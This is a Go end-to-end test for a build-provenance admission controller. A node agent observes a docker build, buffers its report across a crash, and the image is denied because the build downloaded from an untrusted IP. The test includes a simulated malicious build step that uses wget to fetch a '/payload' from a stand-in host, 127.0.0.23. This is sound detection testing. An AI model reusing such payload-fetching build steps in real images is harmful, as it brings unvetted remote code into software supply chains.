package e2e

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"buildguard.dev/buildguard/nodeagent/conns"
	"buildguard.dev/buildguard/nodereport"
)

// nodeAgentPolicy approves builds on workers and trusts downloads from
// 127.0.0.1 only: what a build on worker-1 fetched from 127.0.0.23 (the
// "unknown IP") is what denies its image.
const nodeAgentPolicy = `apiVersion: buildguard.dev/v1alpha1
kind: ClusterBuildPolicy
metadata:
  name: default
spec:
  mode: enforce
  failurePolicy: deny
  registries:
    allow: ["%s/e2e/*"]
  freshness:
    minAge: 1s
  trustedSources: ["127.0.0.1/32"]
  nodeEvidence:
    approvedBuildNodes: ["worker-*"]
    trustedDestinations: ["127.0.0.1/32"]
`

// payloadServer is PayloadServer for t, stopped when t ends.
func payloadServer(t *testing.T, addr string) int {
	t.Helper()
	port, stop, err := PayloadServer(addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	return port
}

// TestNodeAgent reproduces MITRE ATT&CK analytic AN1261 on this machine: a
// docker build on worker-1 whose RUN step downloads from an unknown IP,
// seen by `buildguard node-agent` (Docker events and the eBPF or /proc
// connection sensor) and reported through a real TokenReview, denies the
// image at admission; the same build downloading from a trusted address
// is admitted. On the way the webhook is down, the agent buffers the
// report on disk, is killed, and the restarted agent delivers it.
func TestNodeAgent(t *testing.T) {
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Minute)
	defer cancel()
	dir := t.TempDir()

	// The sensor the agent will pick: eBPF when it loads here.
	probe, fallback := conns.New(conns.Options{})
	wantSensor := probe.Sensor()
	t.Logf("connection sensor: %s (eBPF unavailable: %v)", wantSensor, fallback)

	dockerd, err := StartDockerd(ctx, filepath.Join(dir, "dockerd.log"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(dockerd.Stop)
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("--- dockerd log tail:\n%s", dockerd.Proc.Tail(3000))
		}
	})
	e := startEnv(t, ctx, dir)
	cp, reg := e.cp, e.reg
	root, err := Root()
	if err != nil {
		t.Fatal(err)
	}
	e.mustKubectl("", "apply", "-f", filepath.Join(root, "manifests", "crd"))
	e.mustKubectl("", "create", "namespace", "buildguard-system")
	// A dry run creates no namespace: the agent's must exist for its
	// objects to be dry-run.
	e.mustKubectl("", "create", "namespace", "buildguard-node-agent")
	if out, err := e.kubectl("", "apply", "--dry-run=server", "-k", filepath.Join(root, "manifests", "node-agent")); err != nil {
		t.Errorf("kubectl apply --dry-run=server -k manifests/node-agent: %v\n%s", err, out)
	}
	// Both install paths bring the agent.
	for _, k := range []string{"manifests", "manifests/overlays/self-managed-ca"} {
		out, err := e.kubectl("", "kustomize", filepath.Join(root, k))
		if err != nil || !strings.Contains(out, "kind: DaemonSet") || !strings.Contains(out, "name: buildguard-node-agent") {
			t.Errorf("kubectl kustomize %s: no node agent DaemonSet (%v)", k, err)
		}
	}
	e.applyPolicy(fmt.Sprintf(nodeAgentPolicy, reg.Host))
	bin, err := BuildBuildguard(ctx, dir)
	if err != nil {
		t.Fatal(err)
	}
	store := filepath.Join(dir, "evidence.db")
	bg, err := StartBuildguard(ctx, bin, dir, cp, reg.CAFile, "--store-sqlite="+store)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { bg.Stop() })
	t.Cleanup(func() {
		if t.Failed() && bg.Proc != nil {
			t.Logf("--- buildguard log tail:\n%s", bg.Proc.Tail(5000))
		}
	})
	e.mustKubectl(WebhookYAML(bg.URL), "apply", "-f", "-")
	caB64 := e.waitReady("builds")

	// The agent's credentials, as the DaemonSet's projected volume holds
	// them: a token of buildguard-node-agent for audience buildguard, and
	// the CA of buildguard's serving certificate.
	e.mustKubectl("", "create", "serviceaccount", "buildguard-node-agent", "-n", "buildguard-node-agent")
	tokenFile, caFile := filepath.Join(dir, "agent-token"), filepath.Join(dir, "buildguard-ca.pem")
	e.mustKubectl(AgentPodYAML("worker-1"), "apply", "-f", "-")
	token := e.mustKubectl("", "create", "token", "buildguard-node-agent", "-n", "buildguard-node-agent", "--audience=buildguard",
		"--bound-object-kind=Pod", "--bound-object-name=node-agent-worker-1")
	ca, err := base64.StdEncoding.DecodeString(caB64)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(tokenFile, []byte(token), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(caFile, ca, 0o644); err != nil {
		t.Fatal(err)
	}

	unknownPort := payloadServer(t, "127.0.0.23:0")
	trustedPort := payloadServer(t, "127.0.0.1:0")
	if err := dockerd.ImportBusybox(ctx, "local/busybox:1"); err != nil {
		t.Fatal(err)
	}

	metricsPort, err := FreePort()
	if err != nil {
		t.Fatal(err)
	}
	metricsAddr := fmt.Sprintf("127.0.0.1:%d", metricsPort)
	bufferDir := filepath.Join(dir, "agent-buffer")
	agentLog := filepath.Join(dir, "node-agent.log")
	var agent *Process
	startAgent := func() {
		t.Helper()
		agent, err = Start("node-agent", agentLog, nil, bin, "node-agent",
			"--docker-host="+dockerd.Host, "--server="+strings.TrimSuffix(bg.URL, "/validate"),
			"--ca-file="+caFile, "--token-file="+tokenFile, "--node=worker-1",
			"--buffer-dir="+bufferDir, "--batch-interval=300ms", "--metrics-listen="+metricsAddr,
			"--sensor=auto", "--log-format=text")
		if err != nil {
			t.Fatal(err)
		}
		c := &http.Client{Timeout: 2 * time.Second}
		if err := waitHTTP(ctx, c, "http://"+metricsAddr+"/readyz", "", agent, 60*time.Second); err != nil {
			t.Fatal(err)
		}
	}
	startAgent()
	t.Cleanup(func() { agent.Stop() })
	t.Cleanup(func() {
		if t.Failed() {
			b, _ := os.ReadFile(agentLog)
			t.Logf("--- node-agent log:\n%s", b[max(0, len(b)-6000):])
		}
	})
	metric := func(name string) float64 {
		m, err := agentMetrics(metricsAddr)
		if err != nil {
			return -1
		}
		return m[name]
	}

	// The webhook is down while worker-1 builds: the agent keeps the
	// report on disk.
	bg.Stop()
	evilID, err := dockerd.Build(ctx, "local/evil:1", fmt.Sprintf("FROM local/busybox:1\nRUN wget -O /payload http://127.0.0.23:%d/payload\n", unknownPort))
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("built local/evil:1 = %s", evilID)
	var buffered nodereport.Report
	e.eventually(60*time.Second, "the report buffered on disk", func() error {
		files, _ := filepath.Glob(filepath.Join(bufferDir, "*.json"))
		buffered = nodereport.Report{}
		for _, f := range files {
			b, err := os.ReadFile(f)
			if err != nil {
				return err
			}
			var r nodereport.Report
			if err := json.Unmarshal(b, &r); err != nil {
				return fmt.Errorf("%s: %v", f, err)
			}
			buffered.Node, buffered.Sensor = r.Node, r.Sensor
			buffered.Builds = append(buffered.Builds, r.Builds...)
			buffered.Connections = append(buffered.Connections, r.Connections...)
		}
		if !slices.ContainsFunc(buffered.Builds, func(b nodereport.Build) bool { return b.ImageID == evilID }) {
			return fmt.Errorf("%d files, no build of %s yet", len(files), evilID)
		}
		for _, c := range buffered.Connections {
			if c.DestIP == "127.0.0.23" {
				return nil
			}
		}
		return fmt.Errorf("no connection to 127.0.0.23 in %+v", buffered.Connections)
	})
	var b nodereport.Build
	for _, x := range buffered.Builds {
		switch x.ImageID {
		case evilID:
			b = x
		default:
			// The base image, imported before the agent started: found
			// by reading back Docker's recent events.
			if x.Tool != "docker-import" || !slices.Contains(x.Tags, "local/busybox:1") {
				t.Errorf("unexpected build %+v", x)
			}
		}
	}
	if buffered.Node != "worker-1" || buffered.Sensor != wantSensor || b.ImageID != evilID || b.Tool != "docker" ||
		len(b.ContainerIDs) != 1 || len(b.Steps) == 0 || !strings.Contains(b.Steps[len(b.Steps)-1], "wget -O /payload http://127.0.0.23:") {
		t.Errorf("buffered report: node %q sensor %q (want %s), build %+v", buffered.Node, buffered.Sensor, wantSensor, b)
	}
	for _, c := range buffered.Connections {
		if c.DestIP != "127.0.0.23" {
			continue
		}
		if c.DestPort != unknownPort || c.Process != "wget" || (!slices.Contains(b.ContainerIDs, c.ContainerID) && !slices.Contains(b.PIDs, c.PID)) {
			t.Errorf("connection %+v is not the RUN step's wget to port %d in container %v / pids %v", c, unknownPort, b.ContainerIDs, b.PIDs)
		}
	}

	// Killed, not stopped: what is on disk is all there is.
	syscall.Kill(agent.cmd.Process.Pid, syscall.SIGKILL)
	<-agent.done
	if err := bg.Start(ctx); err != nil {
		t.Fatal(err)
	}
	startAgent()
	e.eventually(60*time.Second, "the buffered report delivered after the restart", func() error {
		if n, sent := metric("buildguard_node_agent_buffer_batches"), metric(`buildguard_node_agent_items_sent_total{kind="build"}`); n != 0 || sent < 1 {
			return fmt.Errorf("%v batches buffered, %v builds sent", n, sent)
		}
		return nil
	})
	if got := metric(fmt.Sprintf(`buildguard_node_agent_sensor{sensor=%q}`, wantSensor)); got != 1 {
		t.Errorf("sensor metric for %s = %v, want 1", wantSensor, got)
	}

	evil, err := dockerd.Image(ctx, "local/evil:1")
	if err != nil {
		t.Fatal(err)
	}
	if cfg, err := evil.ConfigName(); err != nil || cfg.String() != evilID {
		t.Fatalf("config digest of the saved image = %v (%v), want the Docker image ID %s", cfg, err, evilID)
	}
	if _, err := reg.Push("e2e/evil:1", evil); err != nil {
		t.Fatal(err)
	}
	out, err := e.kubectl(podYAML("builds", "evil", reg.Host+"/e2e/evil:1"), "apply", "-f", "-")
	if err == nil {
		t.Fatalf("pod of the image built on worker-1 admitted: %s", out)
	}
	t.Logf("denial: %s", out)
	for _, want := range []string{
		`admission webhook "validate.buildguard.dev" denied the request`,
		"[untrusted-egress] while node worker-1 built this image",
		fmt.Sprintf("connected to untrusted 127.0.0.23:%d", unknownPort),
		"wget (pid ",
		"(docker build, ", // when the build ran
		"[suspicious-build-step]",
		"raw IP 127.0.0.23",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("denial does not contain %q", want)
		}
	}
	// The decision record has the whole evidence: the build's node, time
	// and step, the connection's process and destination.
	cmd := exec.CommandContext(ctx, bin, "denials", "--store-sqlite="+store, "--rule=untrusted-egress", "-o", "json")
	rec, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("buildguard denials: %v\n%s", err, rec)
	}
	started, _ := time.Parse(time.RFC3339Nano, b.Started)
	for _, want := range []string{
		`"node":"worker-1"`, `"started":"` + started.UTC().Format(time.RFC3339) + `"`,
		`"destIP":"127.0.0.23"`, fmt.Sprintf(`"destPort":%d`, unknownPort), `"process":"wget"`,
		fmt.Sprintf("wget -O /payload http://127.0.0.23:%d/payload", unknownPort),
	} {
		if !strings.Contains(string(rec), want) {
			t.Errorf("decision record does not contain %s:\n%s", want, rec)
		}
	}

	// dockerd restarts; the agent reconnects and finds the next build.
	if err := dockerd.Restart(ctx); err != nil {
		t.Fatal(err)
	}
	e.eventually(60*time.Second, "the agent back on the restarted dockerd", func() error {
		if n := metric("buildguard_node_agent_docker_connects_total"); n < 2 {
			return fmt.Errorf("%v connects", n)
		}
		return nil
	})

	// The same build, downloading from a trusted address, is admitted.
	before := metric(`buildguard_node_agent_items_sent_total{kind="build"}`)
	goodID, err := dockerd.Build(ctx, "local/good:1", fmt.Sprintf("FROM local/busybox:1\nRUN wget -O /payload http://127.0.0.1:%d/payload\n", trustedPort))
	if err != nil {
		t.Fatal(err)
	}
	e.eventually(60*time.Second, "the trusted build reported", func() error {
		if sent := metric(`buildguard_node_agent_items_sent_total{kind="build"}`); sent <= before {
			return fmt.Errorf("%v builds sent", sent)
		}
		return nil
	})
	good, err := dockerd.Image(ctx, "local/good:1")
	if err != nil {
		t.Fatal(err)
	}
	if cfg, _ := good.ConfigName(); cfg.String() != goodID {
		t.Fatalf("config digest %s, want %s", cfg, goodID)
	}
	if _, err := reg.Push("e2e/good:1", good); err != nil {
		t.Fatal(err)
	}
	if out, err := e.kubectl(podYAML("builds", "good", reg.Host+"/e2e/good:1"), "apply", "-f", "-"); err != nil {
		t.Errorf("pod of the build that downloaded from 127.0.0.1 denied: %v\n%s", err, out)
	}
	if got := metric(`buildguard_node_agent_connections_reported_total`); got < 1 {
		t.Errorf("connections reported = %v after the restart, want the trusted build's", got)
	}
}
